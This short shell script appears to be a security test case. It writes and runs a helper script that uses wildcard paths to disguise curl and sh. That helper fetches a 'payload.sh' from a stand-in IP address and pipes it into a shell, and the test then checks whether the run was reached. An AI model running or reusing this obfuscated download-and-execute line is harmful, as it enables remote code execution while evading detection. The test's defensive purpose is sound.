#!/bin/sh
. /opt/case/case.sh

cat >/tmp/w.sh <<'END'
IFS=,;a=203;b=0;c=113;d=10;p=pay;q=load
set -- /???/???/cur[k-m] -s "http://$a.$b.$c.$d/$p$q.sh"
"$@" | /???/?h
END
bash /tmp/w.sh
test -e /tmp/reached
took_place
